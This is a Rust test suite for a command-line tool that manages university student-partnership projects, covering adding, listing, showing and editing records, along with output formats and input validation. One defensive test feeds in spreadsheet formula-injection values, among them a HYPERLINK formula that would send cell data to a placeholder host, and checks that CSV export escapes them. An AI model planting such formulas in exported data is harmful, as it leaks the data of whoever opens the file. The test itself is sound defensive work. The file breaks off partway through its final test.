//! `spm project ...`: add, list, show, edit, status, remove, and the output plumbing they share.

use std::collections::HashMap;
use std::io::{BufRead, BufReader};
use std::process::Stdio;

use serde_json::Value as Json;

use crate::common::project_add_args as add_args;
use crate::common::{Env, FORM, LEVEL, TODAY, codes_of, json, read_csv};

/// The demo's codes in list order: newest academic year first, then by code.
const DEMO_CODES: &[&str] = &[
    "data-ethics-2026",
    "lab-methods-2026",
    "sep-autumn-2026",
    "catalyst-access-2025",
    "cm-commuter-2025",
    "intern-archives-2025",
    "mh-peer-2025",
    "reading-lists-2025",
    "reps-forum-2025",
    "assessment-2024",
    "cm-feedback-2024",
    "welcome-2024",
    "employability-2021",
    "mental-health-2021",
    "student-voice-2021",
];

/// The CSV and JSON columns of a project, in order.
const KEYS: &[&str] = &[
    "code",
    "title",
    "summary",
    "status",
    "form",
    "activity",
    "level_planned",
    "level_achieved",
    "department",
    "academic_year",
    "start_date",
    "end_date",
    "lead",
    "lead_email",
    "themes",
    "budget",
    "review_cadence",
    "created_at",
    "updated_at",
];

/// Adds a project titled `title` with the default form and level plus `extra` flags, and
/// returns its code.
fn add(env: &Env, title: &str, extra: &[&str]) -> String {
    env.ok(&add_args(title, extra)).trim_end().to_string()
}

/// A database holding one proposed project, `mental-health-2026`.
fn one_project() -> (Env, String) {
    let env = Env::new();
    let code = add(&env, "Mental health peer support", &[]);
    assert_eq!(code, "mental-health-2026");
    (env, code)
}

/// CSV text as one map per record, keyed by the header.
fn csv_records(text: &str) -> Vec<HashMap<String, String>> {
    let (header, rows) = read_csv(text);
    rows.into_iter()
        .map(|row| header.iter().cloned().zip(row).collect())
        .collect()
}

// ---------------------------------------------------------------------------------------------
// add

#[test]
fn add_prints_only_the_generated_code() {
    let env = Env::new();
    let out = env.run_ok(&add_args("Mental health peer support", &[]));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "mental-health-2026\n");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("created project mental-health-2026"),
        "{stderr}"
    );
}

#[test]
fn add_the_same_title_again_gets_a_numbered_suffix() {
    let (env, first) = one_project();
    let second = add(&env, "Mental health peer support", &["--same-title"]);
    let third = add(&env, "Mental health peer support", &["--same-title"]);
    assert_eq!(first, "mental-health-2026");
    assert_eq!(second, "mental-health-2026-2");
    assert_eq!(third, "mental-health-2026-3");
    assert_eq!(
        env.show("project", &second)["title"],
        "Mental health peer support"
    );
}

#[test]
fn add_generated_code_uses_the_given_year_and_skips_stop_words() {
    let env = Env::new();
    assert_eq!(
        add(
            &env,
            "The Co-creation of Reading Lists",
            &["--year", "2025/26"]
        ),
        "co-creation-2025"
    );
    assert_eq!(add(&env, "The", &[]), "project-2026");
}

#[test]
fn add_generated_codes_stay_valid_for_long_titles_used_many_times() {
    // The stem is cut to 32 characters, so "-2026-100" takes the code past the 40 allowed.
    let env = Env::new();
    let title = "Supercalifragilisticexpialidocious Antidisestablishmentarianism";
    for _ in 0..99 {
        add(&env, title, &["--same-title"]);
    }
    let out = env.run_ok(&add_args(title, &["--same-title"]));
    let code = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(
        !code.is_empty() && code.len() <= 40,
        "generated code {code:?} is not 1 to 40 characters"
    );
    assert_eq!(env.show("project", &code)["title"], title);
}

#[test]
fn add_defaults_to_proposed_in_the_current_year_with_a_yearly_review() {
    let (env, code) = one_project();
    let p = env.show("project", &code);
    assert_eq!(p["status"], "proposed");
    assert_eq!(p["academic_year"], "2026/27");
    assert_eq!(p["review_cadence"], "12m");
    assert_eq!(p["form"], FORM);
    assert_eq!(p["level_planned"], LEVEL);
    for key in [
        "summary",
        "activity",
        "level_achieved",
        "department",
        "start_date",
        "end_date",
        "lead",
        "budget",
    ] {
        assert!(p[key].is_null(), "{key} should be empty: {p}");
    }
    assert_eq!(p["themes"], serde_json::json!([]));
    assert_eq!(p["status_history"], serde_json::json!([]));
    let history = p["history"].as_array().expect("a history array");
    assert_eq!(history.len(), 1, "{p}");
    assert_eq!(history[0]["action"], "insert");
    assert_eq!(history[0]["actor"], "tester");
}

#[test]
fn add_every_flag_round_trips_through_json_show() {
    let env = Env::new();
    let code = add(
        &env,
        "Co-creating reading lists",
        &[
            "--code",
            "reading-lists",
            "--summary",
            "Students and lecturers curate reading lists together.",
            "--activity",
            "curriculum-design",
            "--achieved",
            "involvement",
            "--status",
            "active",
            "--dept",
            "Sociology",
            "--year",
            "2025/26",
            "--start",
            "2025-09-15",
            "--end",
            "2026-06-30",
            "--lead",
            "Prof. J. Osei",
            "--theme",
            "inclusion,decolonising",
            "--theme",
            "wellbeing",
            "--budget",
            "2500",
            "--cadence",
            "6m",
        ],
    );
    assert_eq!(code, "reading-lists");
    let p = env.show("project", &code);
    let expected = [
        ("code", Json::from("reading-lists")),
        ("title", Json::from("Co-creating reading lists")),
        (
            "summary",
            Json::from("Students and lecturers curate reading lists together."),
        ),
        ("status", Json::from("active")),
        ("form", Json::from(FORM)),
        ("activity", Json::from("curriculum-design")),
        ("level_planned", Json::from(LEVEL)),
        ("level_achieved", Json::from("involvement")),
        ("department", Json::from("Sociology")),
        ("academic_year", Json::from("2025/26")),
        ("start_date", Json::from("2025-09-15")),
        ("end_date", Json::from("2026-06-30")),
        ("lead", Json::from("Prof. J. Osei")),
        (
            "themes",
            serde_json::json!(["decolonising", "inclusion", "wellbeing"]),
        ),
        ("budget", Json::from(2500.0)),
        ("review_cadence", Json::from("6m")),
    ];
    for (key, value) in expected {
        assert_eq!(p[key], value, "{key} in {p}");
    }
    // Registered as active: its status history starts on the start date.
    assert_eq!(p["status_history"][0]["status"], "active");
    assert_eq!(p["status_history"][0]["on"], "2025-09-15");
}

#[test]
fn add_the_department_alias_sets_the_department() {
    let env = Env::new();
    let code = add(&env, "Alias", &["--department", "Law"]);
    assert_eq!(env.show("project", &code)["department"], "Law");
}

/// Adds one project per case with `flag` set to the case's text, and checks that `show` gives
/// the case's value under `key`.
fn add_reads<T: Copy + std::fmt::Debug>(flag: &str, key: &str, cases: &[(&str, T)])
where
    Json: PartialEq<T>,
{
    let env = Env::new();
    let name = flag.trim_start_matches('-');
    for (i, (text, expected)) in cases.iter().enumerate() {
        let code = add(
            &env,
            name,
            &["--code", &format!("{name}-{i}"), flag, text, "--same-title"],
        );
        assert_eq!(env.show("project", &code)[key], *expected, "{flag} {text}");
    }
}

#[test]
fn add_budget_accepts_the_ways_people_write_money() {
    add_reads(
        "--budget",
        "budget",
        &[
            ("2500", 2500.0),
            ("2,500.00", 2500.0),
            ("£2,500", 2500.0),
            ("2500.5", 2500.5),
            ("0", 0.0),
        ],
    );
}

#[test]
fn add_cadence_is_read_in_months_or_years() {
    add_reads(
        "--cadence",
        "review_cadence",
        &[("6m", "6m"), ("1y", "12m"), ("18", "18m"), ("2Y", "24m")],
    );
}

#[test]
fn add_enum_names_are_case_insensitive() {
    let env = Env::new();
    let code = env
        .ok(&[
            "project",
            "add",
            "Shouting",
            "--form",
            "WIDER-Student-Experience",
            "--level",
            "Student_Led",
            "--activity",
            "Change-Makers",
            "--achieved",
            "PARTNERSHIP",
            "--status",
            "Paused",
            "--start",
            "2026-10-01",
        ])
        .trim()
        .to_string();
    let p = env.show("project", &code);
    assert_eq!(p["form"], "wider-student-experience");
    assert_eq!(p["level_planned"], "student-led");
    assert_eq!(p["activity"], "change-makers");
    assert_eq!(p["level_achieved"], "partnership");
    assert_eq!(p["status"], "paused");
}

#[test]
fn add_themes_are_trimmed_deduplicated_and_sorted() {
    let env = Env::new();
    let code = add(
        &env,
        "Themes",
        &[
            "--theme",
            " wellbeing , Belonging",
            "--theme",
            "WELLBEING",
            "--theme",
            "",
            "--theme",
            "access",
        ],
    );
    assert_eq!(
        env.show("project", &code)["themes"],
        serde_json::json!(["access", "Belonging", "wellbeing"])
    );
}

#[test]
fn add_code_is_lower_cased() {
    let env = Env::new();
    assert_eq!(add(&env, "Upper", &["--code", "MH-X-2026"]), "mh-x-2026");
    assert_eq!(env.show("project", "mh-x-2026")["title"], "Upper");
}

#[test]
fn add_registered_as_active_without_a_start_date_starts_the_day_it_became_active() {
    // `spm project status CODE active` fills a missing start date; registering a project as
    // active should do the same, or its status history and start date disagree.
    let env = Env::new();
    let code = add(&env, "Already running", &["--status", "active"]);
    let p = env.show("project", &code);
    assert_eq!(p["status_history"][0]["on"], TODAY, "{p}");
    assert_eq!(p["start_date"], TODAY, "{p}");
}

/// Expects `spm project add X --form FORM --level LEVEL` plus each case's flags to be refused
/// with exit 65 and the case's message, leaving the database as it was.
fn add_refuses(cases: &[(&[&str], &str)]) {
    let (env, _) = one_project();
    for (extra, message) in cases {
        env.refused(&add_args("X", extra), 65, message);
    }
}

#[test]
fn add_bad_enum_values_suggest_the_closest_name() {
    let (env, _) = one_project();
    let with_form = |form| vec!["project", "add", "X", "--form", form, "--level", LEVEL];
    let with_level = |level| vec!["project", "add", "X", "--form", FORM, "--level", level];
    for (args, message) in [
        (
            with_form("widr"),
            r#"unknown form "widr"; did you mean "wider-student-experience"?"#,
        ),
        (
            with_level("partnershp"),
            r#"unknown engagement level "partnershp"; did you mean "partnership"?"#,
        ),
        (
            with_level("zzz"),
            "expected one of: consultation, involvement, partnership, student-led",
        ),
    ] {
        env.refused(&args, 65, message);
    }
    add_refuses(&[
        (
            &["--activity", "chnge-makers"],
            r#"unknown activity "chnge-makers"; did you mean "change-makers"?"#,
        ),
        (
            &["--achieved", "involvment"],
            r#"did you mean "involvement"?"#,
        ),
        (
            &["--status", "activ"],
            r#"unknown status "activ"; did you mean "active"?"#,
        ),
    ]);
}

#[test]
fn add_bad_dates_and_an_end_before_the_start_are_refused() {
    let not_a_day = r#"date "2024-02-30" is not a day of the calendar"#;
    let not_iso = r#"date "1/2/03" is not written YYYY-MM-DD"#;
    add_refuses(&[
        (&["--start", "2024-02-30"], not_a_day),
        (&["--start", "1/2/03"], not_iso),
        (&["--end", "2024-02-30"], not_a_day),
        (&["--end", "1/2/03"], not_iso),
        (
            &["--start", "2026-01-02", "--end", "2026-01-01"],
            "the end date 2026-01-01 is before the start date 2026-01-02",
        ),
    ]);
}

#[test]
fn add_an_academic_year_that_does_not_follow_is_refused() {
    add_refuses(&[
        (
            &["--year", "2025/27"],
            r#"academic year "2025/27" does not span two consecutive years; did you mean "2025/26"?"#,
        ),
        (&["--year", "2025"], "is not of the form 2025/26"),
    ]);
}

#[test]
fn add_bad_budgets_are_refused() {
    add_refuses(&[
        (&["--budget", "-5"], r#"amount "-5" is negative"#),
        (
            &["--budget", "2.555"],
            r#"amount "2.555" has more than two decimal places"#,
        ),
        (
            &["--budget", "abc"],
            r#"amount "abc" is not an amount of money"#,
        ),
        (
            &["--budget", "2,50"],
            r#"amount "2,50" is not an amount of money"#,
        ),
    ]);
}

#[test]
fn add_a_taken_code_is_refused() {
    add_refuses(&[
        (
            &["--code", "mental-health-2026"],
            r#"a project with code "mental-health-2026" already exists; choose another --code"#,
        ),
        // Codes are case-insensitive, so the upper-case spelling is taken too.
        (&["--code", "MENTAL-HEALTH-2026"], "already exists"),
    ]);
}

#[test]
fn add_a_malformed_code_is_refused() {
    let long = format!("--code={}", "x".repeat(41));
    let malformed = "is not valid: use 1 to 40 letters, digits and hyphens";
    add_refuses(&[
        (&["--code=bad code"], malformed),
        (&["--code=a_b"], malformed),
        (&["--code=-x"], malformed),
        (&["--code="], malformed),
        (&[long.as_str()], malformed),
    ]);
}

#[test]
fn add_a_bad_cadence_is_refused() {
    add_refuses(&[
        (&["--cadence", "0m"], r#"review cadence "0m" is not valid"#),
        (
            &["--cadence", "121m"],
            r#"review cadence "121m" is not valid"#,
        ),
        (
            &["--cadence", "often"],
            r#"review cadence "often" is not valid"#,
        ),
    ]);
}

#[test]
fn add_a_blank_or_multi_line_title_is_refused() {
    let (env, _) = one_project();
    env.refused(&add_args("  ", &[]), 65, "a project needs a title");
    env.refused(
        &add_args("Line\ntwo", &[]),
        65,
        "a project title is one line",
    );
}

#[test]
fn add_control_characters_in_text_are_refused() {
    add_refuses(&[(
        &["--lead", "Dr\u{7} X"],
        "the staff lead contains control characters",
    )]);
}

// ---------------------------------------------------------------------------------------------
// list

/// Checks on the demo that `spm project list` with each case's filters gives the case's codes,
/// in order.
fn demo_lists(cases: &[(&[&str], &[&str])]) {
    let env = Env::demo();
    for (filters, expected) in cases {
        assert_eq!(
            env.codes("project", filters),
            *expected,
            "project list {filters:?}"
        );
    }
}

#[test]
fn list_shows_every_demo_project_newest_year_first() {
    demo_lists(&[(&[], DEMO_CODES)]);
}

#[test]
fn list_ls_is_an_alias() {
    let env = Env::demo();
    assert_eq!(
        env.ok(&["project", "ls", "--status", "paused"]),
        env.ok(&["project", "list", "--status", "paused"])
    );
    let listed = json(&env.ok(&["--format", "json", "project", "ls", "--status", "paused"]));
    assert_eq!(listed[0]["code"], "reps-forum-2025");
}

#[test]
fn list_filters_by_status() {
    demo_lists(&[
        (
            &["--status", "active"],
            &[
                "sep-autumn-2026",
                "catalyst-access-2025",
                "cm-commuter-2025",
                "intern-archives-2025",
                "mh-peer-2025",
                "reading-lists-2025",
            ],
        ),
        (
            &["--status", "Completed"],
            &[
                "assessment-2024",
                "cm-feedback-2024",
                "employability-2021",
                "mental-health-2021",
                "student-voice-2021",
            ],
        ),
        (&["--status", "withdrawn"], &["welcome-2024"]),
    ]);
}

#[test]
fn list_filters_by_academic_year() {
    let expected = &["assessment-2024", "cm-feedback-2024", "welcome-2024"];
    demo_lists(&[
        (&["--year", "2024/25"], expected),
        (&["--year", "2024-2025"], expected),
    ]);
}

#[test]
fn list_filters_by_form() {
    demo_lists(&[(
        &["--form", "educational-research"],
        &[
            "sep-autumn-2026",
            "cm-commuter-2025",
            "cm-feedback-2024",
            "student-voice-2021",
        ],
    )]);
}

#[test]
fn list_filters_by_planned_level() {
    demo_lists(&[
        (
            &["--level", "student-led"],
            &["cm-commuter-2025", "cm-feedback-2024", "welcome-2024"],
        ),
        (&["--level", "consultation"], &["sep-autumn-2026"]),
    ]);
}

#[test]
fn list_filters_by_activity() {
    demo_lists(&[(
        &["--activity", "change-makers"],
        &["cm-commuter-2025", "cm-feedback-2024"],
    )]);
}

#[test]
fn list_filters_by_whole_department_in_any_case() {
    let expected = &["sep-autumn-2026", "cm-commuter-2025", "cm-feedback-2024"];
    demo_lists(&[
        (&["--dept", "eden centre"], expected),
        (&["--department", "EDEN CENTRE"], expected),
        (&["--dept", "Eden"], &[]),
    ]);
}

#[test]
fn list_filters_by_whole_theme_in_any_case() {
    demo_lists(&[
        (
            &["--theme", "Assessment"],
            &["sep-autumn-2026", "assessment-2024", "cm-feedback-2024"],
        ),
        (
            &["--theme", "research skills"],
            &["data-ethics-2026", "intern-archives-2025"],
        ),
        (&["--theme", "research"], &[]),
    ]);
}

#[test]
fn list_filters_by_part_of_the_staff_lead() {
    demo_lists(&[
        (
            &["--lead", "khan"],
            &["mh-peer-2025", "welcome-2024", "mental-health-2021"],
        ),
        (
            &["--lead", "S. Chen"],
            &["data-ethics-2026", "lab-methods-2026"],
        ),
    ]);
}

#[test]
fn list_search_looks_in_code_title_summary_department_lead_and_themes() {
    demo_lists(&[
        // "peer" is in mh-peer-2025's code and title, and in cm-feedback-2024's summary.
        (&["--search", "PEER"], &["mh-peer-2025", "cm-feedback-2024"]),
        // A department, a lead and a theme.
        (&["--search", "methodology"], &["lab-methods-2026"]),
        (&["--search", "Novak"], &["intern-archives-2025"]),
        (&["--search", "timetabling"], &["cm-commuter-2025"]),
    ]);
}

#[test]
fn list_search_treats_percent_and_underscore_literally() {
    let env = Env::demo();
    assert!(env.codes("project", &["--search", "%"]).is_empty());
    assert!(env.codes("project", &["--search", "_"]).is_empty());
    assert!(env.codes("project", &["--search", "\\"]).is_empty());
    let percent = add(&env, "Attendance up 100% this term", &["--code", "percent"]);
    let underscore = add(&env, "snake_case names", &["--code", "underscore"]);
    assert_eq!(env.codes("project", &["--search", "%"]), [percent.as_str()]);
    assert_eq!(
        env.codes("project", &["--search", "100%"]),
        [percent.as_str()]
    );
    assert_eq!(
        env.codes("project", &["--search", "_"]),
        [underscore.as_str()]
    );
    // "e_c" would match "e-c" or "e c" if "_" were a wildcard.
    assert_eq!(
        env.codes("project", &["--search", "e_c"]),
        [underscore.as_str()]
    );
    assert_eq!(env.codes("project", &["--lead", "%"]), Vec::<String>::new());
}

#[test]
fn list_filters_combine() {
    demo_lists(&[
        (
            &["--status", "active", "--year", "2025/26"],
            &[
                "catalyst-access-2025",
                "cm-commuter-2025",
                "intern-archives-2025",
                "mh-peer-2025",
                "reading-lists-2025",
            ],
        ),
        (
            &["--lead", "halls", "--status", "completed"],
            &["cm-feedback-2024", "employability-2021"],
        ),
        (&["--theme", "wellbeing", "--year", "2024/25"], &[]),
    ]);
}

#[test]
fn list_bad_filter_values_are_refused() {
    let env = Env::demo();
    for (args, message) in [
        (["--status", "activ"], r#"did you mean "active"?"#),
        (["--year", "2025/27"], r#"did you mean "2025/26"?"#),
        (["--form", "curicullum"], r#"unknown form "curicullum""#),
        (["--level", "zzz"], r#"unknown engagement level "zzz""#),
        (["--activity", "panel"], r#"unknown activity "panel""#),
    ] {
        let mut full = vec!["project", "list"];
        full.extend_from_slice(&args);
        env.refused(&full, 65, message);
    }
}

// ---------------------------------------------------------------------------------------------
// formats and output

#[test]
fn list_csv_has_every_column_by_key() {
    let env = Env::demo();
    let text = env.ok(&["--format", "csv", "project", "list", "--status", "paused"]);
    let (header, rows) = read_csv(&text);
    assert_eq!(header, KEYS);
    assert_eq!(rows.len(), 1);
    let rec = &csv_records(&text)[0];
    assert_eq!(rec["code"], "reps-forum-2025");
    assert_eq!(rec["title"], "Academic representatives' forum");
    assert_eq!(rec["status"], "paused");
    assert_eq!(rec["academic_year"], "2025/26");
    assert_eq!(rec["start_date"], "2025-10-20");
    assert_eq!(rec["end_date"], "");
    assert_eq!(rec["budget"], "");
    assert_eq!(rec["review_cadence"], "12m");
}

#[test]
fn list_csv_writes_plain_money_and_joined_themes() {
    let env = Env::demo();
    let text = env.ok(&["--format", "csv", "project", "list", "--search", "mh-peer"]);
    let rec = &csv_records(&text)[0];
    assert_eq!(rec["budget"], "2500.00");
    assert_eq!(rec["themes"], "mental health; wellbeing");
}

#[test]
fn list_json_keeps_numbers_as_numbers_and_themes_as_arrays() {
    let env = Env::demo();
    let list = json(&env.ok(&["--format", "json", "project", "list"]));
    let list = list.as_array().expect("an array");
    assert_eq!(list.len(), 15);
    let mh = list
        .iter()
        .find(|p| p["code"] == "mh-peer-2025")
        .expect("mh-peer-2025");
    assert!(mh["budget"].is_number(), "{mh}");
    assert_eq!(mh["budget"], 2500.0);
    assert_eq!(
        mh["themes"],
        serde_json::json!(["mental health", "wellbeing"])
    );
    assert!(mh["end_date"].is_null());
    let keys: Vec<&str> = mh
        .as_object()
        .expect("an object")
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(keys, KEYS);
    let reps = list
        .iter()
        .find(|p| p["code"] == "reps-forum-2025")
        .expect("reps-forum-2025");
    assert!(reps["budget"].is_null());
}

#[test]
fn list_markdown_is_a_table_with_the_narrow_columns() {
    let env = Env::demo();
    let text = env.ok(&["--format", "md", "project", "list", "--status", "paused"]);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0],
        "| Code | Title | Status | Form | Planned level | Department | Year | Staff lead | Themes | Budget |"
    );
    assert_eq!(lines[1], "|---|---|---|---|---|---|---|---|---|---|");
    assert!(lines[2].starts_with("| reps-forum-2025 | Academic representatives' forum | paused |"));
    assert_eq!(lines.len(), 3, "{text}");
}

#[test]
fn list_table_is_for_a_person() {
    let env = Env::demo();
    let text = env.ok(&["--format", "table", "project", "list"]);
    for header in ["Code", "Title", "Status", "Staff lead", "Budget"] {
        assert!(text.contains(header), "no {header} in {text}");
    }
    // The table leaves out the long columns that scripts get.
    assert!(!text.contains("Summary"), "{text}");
    for code in DEMO_CODES {
        assert!(text.contains(code), "no {code} in {text}");
    }
    assert!(text.contains("£2,500.00"), "{text}");
    // The default format is the table.
    assert_eq!(text, env.ok(&["project", "list"]));
}

#[test]
fn list_format_may_follow_the_subcommand() {
    let env = Env::demo();
    assert_eq!(
        env.ok(&["project", "list", "--format", "csv"]),
        env.ok(&["--format", "csv", "project", "list"])
    );
}

#[test]
fn list_output_file_gets_the_output_and_stdout_nothing() {
    let env = Env::demo();
    let file = env.path("projects.csv");
    let file_arg = file.to_str().expect("a UTF-8 path");
    let stdout = env.ok(&["--format", "csv", "project", "list", "-o", file_arg]);
    assert_eq!(stdout, "");
    let written = std::fs::read_to_string(&file).expect("the output file");
    let (header, rows) = read_csv(&written);
    assert_eq!(header, KEYS);
    assert_eq!(rows.len(), 15);
    // --output replaces the file whole.
    env.ok(&[
        "--format", "csv", "project", "list", "--status", "paused", "--output", file_arg,
    ]);
    let (_, rows) = read_csv(&std::fs::read_to_string(&file).expect("the output file"));
    assert_eq!(rows.len(), 1);
}

#[test]
fn list_output_into_a_missing_folder_exits_73() {
    let env = Env::demo();
    let file = env.path("no-such-folder").join("projects.csv");
    env.refused(
        &[
            "--format",
            "csv",
            "project",
            "list",
            "--output",
            file.to_str().expect("UTF-8"),
        ],
        73,
        "no-such-folder does not exist",
    );
    assert!(!file.exists());
}

#[test]
fn list_output_to_a_folder_exits_73() {
    let env = Env::demo();
    let dir = env.path("");
    env.refused(
        &["project", "list", "--output", dir.to_str().expect("UTF-8")],
        73,
        "it is a folder; give a file name",
    );
}

#[test]
fn csv_guards_cells_a_spreadsheet_would_run_and_json_keeps_them() {
    let env = Env::new();
    let values = [
        "=1+2",
        "+44 20 7946 0000",
        "-5",
        "@SUM(A1)",
        "=HYPERLINK(\"http://x/?\"&A1)",
    ];
    for (i, value) in values.iter().enumerate() {
        let summary = format!("--summary={value}");
        let lead = format!("--lead={value}");
        let dept = format!("--dept={value}");
        let theme = format!("--theme={value}");
        let code = format!("inject-{i}");
        // "--" lets a title such as "-5" through as the title.
        env.ok(&[
            "project", "add", "--code", &code, "--form", FORM, "--level", LEVEL, &summary, &lead,
            &dept, &theme, "--", value,
        ]);
    }
    // A title is one trimmed line, so a leading tab or CR can only be tried in the summary;
    // free text is trimmed, so it is stored from the "=".
    for (code, summary) in [("inject-tab", "\t=1"), ("inject-cr", "\r=1")] {
        env.ok(&[
            "project",
            "add",
            "Leading control",
            "--code",
            code,
            "--form",
            FORM,
            "--level",
            LEVEL,
            "--summary",
            summary,
            "--same-title",
        ]);
    }

    let csv = env.ok(&["--format", "csv", "project", "list"]);
    let records = csv_records(&csv);
    let listed = json(&env.ok(&["--format", "json", "project", "list"]));
    let by_code = |code: &str| -> (&HashMap<String, String>, &Json) {
        let rec = records
            .iter()
            .find(|r| r["code"] == code)
            .unwrap_or_else(|| panic!("{code} in {csv}"));
        let obj = listed
            .as_array()
            .expect("an array")
            .iter()
            .find(|p| p["code"] == code)
            .unwrap_or_else(|| panic!("{code} in {listed}"));
        (rec, obj)
    };
    for (i, value) in values.iter().enumerate() {
        let (rec, obj) = by_code(&format!("inject-{i}"));
        for key in ["title", "summary", "lead", "department", "themes"] {
            assert_eq!(rec[key], format!("'{value}"), "CSV {key} for {value:?}");
        }
        for key in ["title", "summary", "lead", "department"] {
            assert_eq!(obj[key], *value, "JSON {key} for {value:?}");
        }
        assert_eq!(obj["themes"], serde_json::json!([value]));
        // The show record's CSV row is guarded too.
        let shown = env.ok(&["--format", "csv", "project", "show", &format!("inject-{i}")]);
        assert_eq!(csv_records(&shown)[0]["title"], format!("'{value}"));
    }
    for code in ["inject-tab", "inject-cr"] {
        let (rec, obj) = by_code(code);
        assert!(
            rec["summary"].starts_with('\''),
            "{code}: {:?}",
            rec["summary"]
        );
        assert_eq!(rec["summary"], "'=1");
        assert_eq!(obj["summary"], "=1");
    }
}

// ---------------------------------------------------------------------------------------------
// show

#[test]
fn show_table_has_the_fields_and_both_history_sections() {
    let env = Env::demo();
    let text = env.ok(&["project", "show", "mh-peer-2025"]);
    for needle in [
        "Code",
        "mh-peer-2025",
        "Mental health peer support",
        "Planned level",
        "Achieved level",
        "Student Services",
        "2025/26",
        "2025-10-01",
        "Dr A. Khan",
        "mental health, wellbeing",
        "£2,500.00",
        "Review cadence",
        "Status history",
        "History",
        "tester",
        "created",
    ] {
        assert!(text.contains(needle), "no {needle:?} in {text}");
    }
    let status_at = text.find("Status history").expect("a status history");
    let history_at = text.rfind("\nHistory").expect("a history");
    assert!(status_at < history_at, "{text}");
}

#[test]
fn show_table_says_none_when_there_is_no_status_history() {
    let (env, code) = one_project();
    let text = env.ok(&["project", "show", &code]);
    assert!(text.contains("Status history\n(none)"), "{text}");
}

#[test]
fn show_json_has_the_fields_and_history_arrays() {
    let env = Env::demo();
    let p = env.show("project", "assessment-2024");
    for key in KEYS {
        assert!(p.get(key).is_some(), "no {key} in {p}");
    }
    assert_eq!(p["status"], "completed");
    assert_eq!(p["budget"], 800.0);
    let statuses = p["status_history"]
        .as_array()
        .expect("status_history array");
    assert_eq!(statuses.len(), 1, "{p}");
    assert_eq!(statuses[0]["status"], "completed");
    assert_eq!(statuses[0]["on"], "2025-06-30");
    let history = p["history"].as_array().expect("history array");
    assert_eq!(history.len(), 1, "{p}");
    for key in ["at", "actor", "action", "fields"] {
        assert!(history[0].get(key).is_some(), "no {key} in {p}");
    }
}

#[test]
fn show_markdown_has_the_fields_and_sections() {
    let env = Env::demo();
    let text = env.ok(&["--format", "md", "project", "show", "mh-peer-2025"]);
    assert!(
        text.starts_with("| Field | Value |\n|---|---|\n| Code | mh-peer-2025 |"),
        "{text}"
    );
    assert!(text.contains("## Status history"), "{text}");
    assert!(text.contains("## History"), "{text}");
}

#[test]
fn show_history_after_an_edit_has_the_old_and_new_values() {
    let (env, code) = one_project();
    edit(
        &env,
        &code,
        &["--title", "Peer wellbeing support", "--dept", "Law"],
    );
    let p = env.show("project", &code);
    let history = p["history"].as_array().expect("history array");
    assert_eq!(history.len(), 2, "{p}");
    assert_eq!(history[1]["action"], "update");
    assert_eq!(history[1]["actor"], "tester");
    let fields = &history[1]["fields"];
    assert_eq!(
        fields["title"],
        serde_json::json!(["Mental health peer support", "Peer wellbeing support"]),
        "{p}"
    );
    assert_eq!(fields["department"][1], "Law", "{p}");
    // People read the same change as a sentence.
    let table = env.ok(&["project", "show", &code]);
    assert!(
        table.contains("title: Mental health peer support → Peer wellbeing support"),
        "{table}"
    );
}

#[test]
fn show_codes_are_case_insensitive() {
    let env = Env::demo();
    assert_eq!(
        env.show("project", " MH-Peer-2025 ")["code"],
        "mh-peer-2025"
    );
}

// ---------------------------------------------------------------------------------------------
// edit

/// Edits project `code` with `spm project edit CODE REST...`, expecting success; returns stdout.
fn edit(env: &Env, code: &str, rest: &[&str]) -> String {
    let mut args = vec!["project", "edit", code];
    args.extend_from_slice(rest);
    env.ok(&args)
}

#[test]
fn edit_changes_every_field_and_prints_the_code() {
    let (env, code) = one_project();
    let out = edit(
        &env,
        &code,
        &[
            "--title",
            "Peer wellbeing support",
            "--summary",
            "Peers run drop-in sessions.",
            "--form",
            "co-creation-within-curriculum",
            "--activity",
            "problem-solving",
            "--level",
            "student-led",
            "--achieved",
            "involvement",
            "--dept",
            "Student Services",
            "--year",
            "2025/26",
            "--start",
            "2025-10-01",
            "--end",
            "2026-06-30",
            "--lead",
            "Dr A. Khan",
            "--theme",
            "wellbeing,belonging",
            "--budget",
            "£1,250.50",
            "--cadence",
            "6m",
        ],
    );
    assert_eq!(out, format!("{code}\n"));
    let p = env.show("project", &code);
    let expected = [
        ("code", Json::from(code.as_str())),
        ("title", Json::from("Peer wellbeing support")),
        ("summary", Json::from("Peers run drop-in sessions.")),
        ("status", Json::from("proposed")),
        ("form", Json::from("co-creation-within-curriculum")),
        ("activity", Json::from("problem-solving")),
        ("level_planned", Json::from("student-led")),
        ("level_achieved", Json::from("involvement")),
        ("department", Json::from("Student Services")),
        ("academic_year", Json::from("2025/26")),
        ("start_date", Json::from("2025-10-01")),
        ("end_date", Json::from("2026-06-30")),
        ("lead", Json::from("Dr A. Khan")),
        ("themes", serde_json::json!(["belonging", "wellbeing"])),
        ("budget", Json::from(1250.5)),
        ("review_cadence", Json::from("6m")),
    ];
    for (key, value) in expected {
        assert_eq!(p[key], value, "{key} in {p}");
    }
}

#[test]
fn edit_an_empty_value_clears_an_optional_field() {
    let env = Env::new();
    let code = add(
        &env,
        "Full",
        &[
            "--summary",
            "Something",
            "--activity",
            "other",
            "--achieved",
            "consultation",
            "--dept",
            "Law",
            "--start",
            "2026-09-01",
            "--end",
            "2027-06-30",
            "--lead",
            "Dr X",
            "--theme",
            "a,b",
            "--budget",
            "100",
        ],
    );
    let fields = [
        ("--summary", "summary"),
        ("--activity", "activity"),
        ("--achieved", "level_achieved"),
        ("--dept", "department"),
        ("--end", "end_date"),
        ("--start", "start_date"),
        ("--lead", "lead"),
        ("--budget", "budget"),
    ];
    for (flag, key) in fields {
        assert!(
            !env.show("project", &code)[key].is_null(),
            "{key} should be set"
        );
        edit(&env, &code, &[flag, ""]);
        assert!(
            env.show("project", &code)[key].is_null(),
            "{flag} \"\" should clear {key}"
        );
    }
    edit(&env, &code, &["--theme", ""]);
    assert_eq!(env.show("project", &code)["themes"], serde_json::json!([]));
}

#[test]
fn edit_a_required_field_cannot_be_cleared() {
    let (env, code) = one_project();
    for (flag, message) in [
        ("--title", "a project needs a title"),
        ("--form", "unknown form"),
        ("--level", "unknown engagement level"),
        ("--year", "is not of the form 2025/26"),
        ("--cadence", "review cadence"),
        ("--code", "is not valid"),
    ] {
        env.refused(&["project", "edit", &code, flag, ""], 65, message);
    }
}

#[test]
fn edit_theme_replaces_every_theme() {
    let env = Env::new();
